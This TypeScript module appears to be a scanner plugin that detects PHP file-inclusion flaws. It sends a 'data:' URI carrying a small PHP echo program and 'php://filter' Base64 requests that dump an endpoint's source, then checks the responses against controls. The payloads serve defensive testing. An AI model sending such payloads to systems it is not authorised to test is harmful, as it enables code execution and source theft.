import type { Verdict } from "@picket/plugin-sdk";
import {
  type Answer,
  type Arithmetic,
  ask,
  bodyProof,
  createMarker,
  heldControl,
  proveArithmetic,
  type Send,
} from "@picket/plugin-sdk/probe";
import type { InsertionPoint } from "@picket/plugin-sdk/surface";

/** A program in the name itself, as PHP takes it where `allow_url_include` is on. It closes, so that a suffix is text. */
const PROGRAM: Arithmetic = {
  evaluated: ({ before, a, b, after }) => `data:,<?php echo '${before}'.(${a}*${b}).'${after}';?>`,
  inert: ({ before, a, b, after }) => `data:,${before}(${a}*${b})${after}`,
};

async function byProgram(send: Send): Promise<Verdict["evidence"] | null> {
  const proof = await proveArithmetic(send, PROGRAM);
  if (!proof) return null;
  const { proofs, control } = proof;
  return [
    ...proofs.map(({ sent, answer, offset }, replay) =>
      bodyProof("content_proof", answer, offset, { sent, technique: "program in the name", replay }),
    ),
    heldControl(control.answer, "the same words without a program are not worked out", {
      sent: control.sent,
    }),
  ];
}

const ENCODED = "convert.base64-encode";

function filtered(times: number, name: string): string {
  return `php://filter/${Array.from({ length: times }, () => ENCODED).join("|")}/resource=${name}`;
}

function decoded(text: string): string {
  try {
    return atob(text);
  } catch {
    // Letters that only look like Base64.
    return "";
  }
}

/** Where a program of PHP stands in Base64, encoded so many times; -1: nowhere. */
function encodedProgramOffset(text: string, times: number): number {
  for (const { 0: run, index } of text.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g)) {
    let inner = run;
    for (let layer = 0; layer < times; layer += 1) inner = decoded(inner);
    if (/<\?(?:php\s|=)/.test(inner)) return index;
  }
  return -1;
}

interface Shown {
  readonly sent: string;
  readonly answer: Answer;
  readonly offset: number;
}

async function show(send: Send, times: number, name: string): Promise<Shown | null> {
  const sent = filtered(times, name);
  const answer = await ask(send, sent);
  return answer && { sent, answer, offset: encodedProgramOffset(answer.text, times) };
}

/** The program that the endpoint's own value names, encoded by PHP once and, for a second proof, twice. */
async function bySource(
  { value, isObserved }: InsertionPoint,
  send: Send,
): Promise<Verdict["evidence"] | null> {
  if (!isObserved) return null;
  const once = await show(send, 1, value);
  if (!once || once.offset < 0) return null;
  const twice = await show(send, 2, value);
  const control = await show(send, 1, createMarker());
  if (!twice || twice.offset < 0 || !control || control.offset >= 0) return null;
  return [
    ...[once, twice].map(({ sent, answer, offset }) =>
      bodyProof("content_proof", answer, offset, { sent, technique: "source of the program" }),
    ),
    heldControl(control.answer, "of a file that is not there nothing is shown", { sent: control.sent }),
  ];
}

/** Whether PHP includes what is named: two requests where it does not. */
export async function proveInclusion(point: InsertionPoint, send: Send): Promise<Verdict["evidence"] | null> {
  return (await byProgram(send)) ?? (await bySource(point, send));
}
